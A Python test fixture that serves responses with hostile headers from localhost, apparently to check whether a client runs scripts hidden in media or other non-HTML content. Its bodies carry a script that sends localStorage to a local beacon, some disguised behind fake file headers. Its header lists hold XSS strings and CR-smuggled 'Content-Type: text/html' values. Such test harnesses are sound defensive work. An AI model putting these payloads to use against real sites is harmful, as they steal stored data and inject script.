"""An origin with hostile response headers, and a listener to which scripts report."""

import random
import socket
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

SEED = 20261123
COUNT = 200


@dataclass(frozen=True)
class Case:
    """A response: the raw lines of its head, without Content-Length, and its body."""

    fields: tuple[bytes, ...]
    body: bytes


class Beacon:
    """Collects the reports of scripts."""

    def __init__(self):
        self.reports: list[str] = []
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                beacon.reports.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_):
                """Logs nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.address = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def stop(self):
        self._server.shutdown()
        self._server.server_close()


class HostileOrigin:
    """Serves the cases byte for byte as `/<number>.<extension>`, and `files` by their paths."""

    def __init__(self, cases: list[Case]):
        self.cases = cases
        self.files: dict[str, bytes] = {}
        self._listener = socket.create_server(("127.0.0.1", 0), backlog=64)
        self._port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self._port}/{path}"

    def stop(self):
        self._listener.close()

    def _accept(self):
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket):
        connection.settimeout(20)
        with connection:
            request = b""
            try:
                while b"\r\n\r\n" not in request and (piece := connection.recv(4096)):
                    request += piece
                words = request.split(b" ", 2)
                if len(words) == 3:
                    connection.sendall(self._response(words[0] == b"HEAD", words[1].decode()))
                    connection.shutdown(socket.SHUT_WR)
            except OSError:
                """Ignores clients that disconnect."""

    def _response(self, is_head: bool, target: str) -> bytes:
        path = urlsplit(target).path
        number = path.strip("/").split(".")[0]
        if path in self.files:
            fields, body = (b"Content-Type: application/octet-stream",), self.files[path]
        elif number.isdigit() and int(number) < len(self.cases):
            case = self.cases[int(number)]
            fields, body = case.fields, case.body
        else:
            return b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        length = f"Content-Length: {len(body)}".encode()
        head = b"\r\n".join((b"HTTP/1.1 200 OK", *fields, length, b"Connection: close"))
        return head + b"\r\n\r\n" + (b"" if is_head else body)


def script(beacon: str) -> str:
    """Returns a script that reports its execution, and the local storage that it can read."""
    return (f"var s='';try{{s=JSON.stringify(localStorage)}}catch(e){{s='none'}};"
            f"new Image().src='{beacon}/ran?'+encodeURIComponent(location.pathname)+'&'+encodeURIComponent(s)")


def bodies(beacon: str) -> list[bytes]:
    """Returns documents that run a script if a browser treats them as HTML or SVG.

    Most don't start like a page, so that they can't be identified by their first bytes. Their lengths are multiples of
    16, like those of encrypted segments.
    """
    code = script(beacon)
    page = f"<script>{code}</script><img src=x onerror=\"{code}\"><svg onload=\"{code}\"></svg>"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{code}\"><script>{code}</script></svg>"
    # Resembles encrypted data.
    noise = bytes(random.Random(SEED).choices(range(0x80, 0x100), k=5000))
    texts = [
        noise + page.encode(),
        noise[:700] + page.encode(),
        noise[:17] + page.encode(),
        f"A text. {page}".encode(),
        f"<b>{page}".encode(),
        f"<!-- a comment -->{page}".encode(),
        f"<!doctype html><html><body>{page}".encode(),
        svg.encode(),
        f"<?xml version='1.0'?>{svg}".encode(),
        f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>{code}</script></html>".encode(),
        f"GIF89a/*{page}".encode(),
        b"\x00\x00\x00\x18mdat" + page.encode(),
        b"\xff\xfe" + page.encode("utf-16-le"),
        b"\x89P\r\n" + page.encode(),
        f"%PDF-1.4 {page}".encode(),
    ]
    return [text + b" " * (-len(text) % 16) for text in texts]


def song(picture: bytes, kind: str) -> bytes:
    """Returns a song whose ID3 tag (version 2.3) contains a picture (APIC) with the given media type."""
    content = b"\0" + kind.encode("latin-1", "replace").replace(b"\0", b"") + b"\0\x03\0" + picture
    frame = b"APIC" + len(content).to_bytes(4, "big") + b"\0\0" + content
    length = bytes(len(frame) >> shift & 0x7F for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + length + frame + b"\x55" * 2000


TYPES = [
    "video/mp4,text/html", "video/mp4, text/html", "text/html,video/mp4", "image/png,image/svg+xml",
    "audio/mpeg ,\ttext/html;charset=utf-8", "video/mp4;x=\"a,text/html", "video/mp4;x=a,text/html",
    "video/mp4;codecs=\"avc1\",text/html", "video/mp4;codecs=\"avc1,text/html\"", "video/mp4;codecs=avc1,text/html;",
    "video/mp4;,application/xhtml+xml", "video/mp4;charset=utf-7", "text/vtt;charset=utf-7,text/html", "text/html",
    "TEXT/HTML", " text/html", "text/html;video/mp4", "text/html\t", "text/HTML ; charset=x", "application/xhtml+xml",
    "image/svg+xml", "image/svg+xml;charset=utf-8", "IMAGE/SVG+XML", "text/xml", "application/xml", "text/xsl",
    "application/rss+xml", "application/atom+xml", "application/mathml+xml", "application/dash+xml", "text/plain",
    "text/css", "text/javascript", "application/javascript", "application/pdf", "multipart/x-mixed-replace",
    "multipart/x-mixed-replace;boundary=text/html", "multipart/related", "message/rfc822", "text/cache-manifest",
    "application/x-shockwave-flash", "*/*", "*", "", " ", ",", ";", "/", "video/", "/html", "video", "text",
    "video/mp4\x0btext/html", "video/mp4\x0c,text/html", "video/mp4\x00,text/html", "video/mp4\r ,text/html",
    "video/mp4\x1f", "v\u00efdeo/mp4,text/html", "unknown/unknown", "application/unknown", "video/*", "image/*",
    "audio/x-mpegurl,text/html", "application/vnd.apple.mpegurl,text/html", "application/ogg,text/html",
    "application/octet-stream,text/html", "application/json,text/html", "text/vtt,text/html", "text/vtt, image/svg+xml",
    "video/mp4;" + "x" * 4000 + ",text/html", "video/mp4;x=\"" + "y" * 3000 + "\",text/html", "text/html" * 500,
    "video/mp4" + "," * 200 + "text/html", "\"video/mp4\",text/html", "video/mp4;x=\\\",text/html",
    "video/mp4;x=\"\\\",text/html", "(comment) text/html", "video/mp4 text/html", "text/html video/mp4",
]
TAGS = [
    '"1"', "W/\"1\"", '"1","2"', "none", '"<script>alert(1)</script>"', '"\x01"', '"' + "t" * 5000 + '"', '"\u00e9"',
    '"', '""', '"a"b"', "*", '"1"; Content-Type: text/html', '"1"\x0bContent-Type: text/html',
    '"1"\rContent-Type: text/html',
]
DATES = [
    "Sun, 06 Nov 1994 08:49:37 GMT", "Sun, 06 Nov 1994 08:49:37 GMT, Sun, 06 Nov 1994 08:49:37 GMT",
    "Sunday, 06-Nov-94 08:49:37 GMT", "<script>", "Sun, 99 Nov 1994 08:49:37 GMT", "0", "", "d" * 5000,
    "Sun, 06 Nov 1994 08:49:37 GMT\x0bContent-Type: text/html", "Sun, 06 Nov 1994 08:49:37 GMT\rContent-Type: text/html",
]
DISPOSITIONS = [
    "inline", "inline; filename=x.html", "attachment, inline", "inline; filename=\"x\x01.html\"",
    "inline; filename*=UTF-8''%0d%0aContent-Type:%20text/html", "inline;" + "d" * 5000, "inline, attachment",
    "inline\rContent-Type: text/html", "\x7f", "form-data; name=\"<script>\"",
]
OTHERS = [
    "Content-Security-Policy: script-src * 'unsafe-inline'", "X-Content-Type-Options: sniff", "Refresh: 0;url=/page/",
    "Link: <data:text/css,*{}>;rel=stylesheet", "Set-Cookie: a=b", "Content-Language: <script>",
    "Cache-Control: public, max-age=99999999, \x01", "Service-Worker-Allowed: /", "Clear-Site-Data: \"*\"",
    "Access-Control-Allow-Origin: null", "Location: javascript:alert(1)", "Content-Location: text/html",
]


def make(beacon: str, seed: int = SEED) -> list[Case]:
    """Returns the cases for a seed: first each type as the only hostile field, then mixtures."""
    generator = random.Random(seed)

    def pick(values: list[str], counts: tuple[int, ...]) -> list[str]:
        # Most responses with control characters aren't valid HTTP and are refused only after several attempts, so a few
        # are enough.
        plain = [value for value in values if not any(char < " " and char != "\t" for char in value)]
        return generator.choices(values if generator.random() < 0.05 else plain, k=generator.choice(counts))

    texts = bodies(beacon)
    cases: list[Case] = []
    for number in range(COUNT):
        if number < len(TYPES):
            fields = [f"Content-Type: {TYPES[number]}"]
        else:
            types = pick(TYPES, (1, 2, 2, 3))
            if generator.random() < 0.3:
                types = [generator.choice((", ", ",", ";", " ", "\t", ",,", ";,")).join(types)]
            fields = [f"Content-Type: {value}" for value in types]
            fields += [f"ETag: {value}" for value in pick(TAGS, (0, 1, 2))]
            fields += [f"Last-Modified: {value}" for value in pick(DATES, (0, 1, 2))]
            fields += [f"Content-Disposition: {value}" for value in pick(DISPOSITIONS, (0, 1, 2))]
            fields += pick(OTHERS, (0, 1, 2))
            generator.shuffle(fields)
        cases.append(Case(tuple(field.encode() for field in fields), texts[number % len(texts)]))
    return cases
